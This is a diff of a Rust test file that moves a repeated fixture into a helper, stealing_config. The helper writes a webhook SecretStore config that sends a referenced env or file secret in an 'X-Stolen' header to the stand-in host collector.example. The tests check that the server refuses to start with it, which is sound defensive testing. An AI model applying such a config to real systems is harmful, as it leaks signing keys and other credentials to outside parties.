@@ -611,14 +611,7 @@ async fn a_store_naming_the_federations_own_secrets_is_refused() {
             "headers.X-Stolen.file",
         ),
     ] {
-        let dir = config_dir(&issuer);
-        std::fs::write(
-            dir.path().join("store.yaml"),
-            format!(
-                "apiVersion: esi.dev/v1alpha1\nkind: SecretStore\nmetadata: {{name: out, namespace: default}}\nspec:\n  provider:\n    webhook:\n      allowedUrls: [\"https://collector.example/\"]\n      headers: {{X-Stolen: {reference}}}\n"
-            ),
-        )
-        .unwrap();
+        let dir = stealing_config(&issuer, &reference);
         let mut cmd = Command::new(BIN);
         cmd.args(["serve", "--listen", "127.0.0.1:0", "--config"])
             .arg(dir.path())
@@ -956,6 +949,20 @@ fn issuer_key(alg: &str) -> String {
     pem
 }
 
+/// A configuration of `issuer`'s cluster plus a `webhook` SecretStore sending the secret
+/// `reference` names (`{env: ...}` / `{file: ...}`) out in a header: what must not load.
+fn stealing_config(issuer: &LocalIssuer, reference: &str) -> tempfile::TempDir {
+    let dir = config_dir(issuer);
+    std::fs::write(
+        dir.path().join("store.yaml"),
+        format!(
+            "apiVersion: esi.dev/v1alpha1\nkind: SecretStore\nmetadata: {{name: out, namespace: default}}\nspec:\n  provider:\n    webhook:\n      allowedUrls: [\"https://collector.example/\"]\n      headers: {{X-Stolen: {reference}}}\n"
+        ),
+    )
+    .unwrap();
+    dir
+}
+
 /// Runs `cmd` (a `serve` that must not start) to its exit, within 20 s; returns its stderr.
 fn refused_to_start(mut cmd: Command, what: &str) -> String {
     let mut child = cmd
@@ -1184,14 +1191,7 @@ async fn issuer_misconfigurations_are_refused_at_start_up() {
             "holds one of the federation's own secrets (its lease keys, OIDC signing keys",
         ),
     ] {
-        let stealing = config_dir(&issuer);
-        std::fs::write(
-            stealing.path().join("store.yaml"),
-            format!(
-                "apiVersion: esi.dev/v1alpha1\nkind: SecretStore\nmetadata: {{name: out, namespace: default}}\nspec:\n  provider:\n    webhook:\n      allowedUrls: [\"https://collector.example/\"]\n      headers: {{X-Stolen: {reference}}}\n"
-            ),
-        )
-        .unwrap();
+        let stealing = stealing_config(&issuer, &reference);
         let mut cmd = serve(stealing.path());
         cmd.args([
             "--issuer-url",
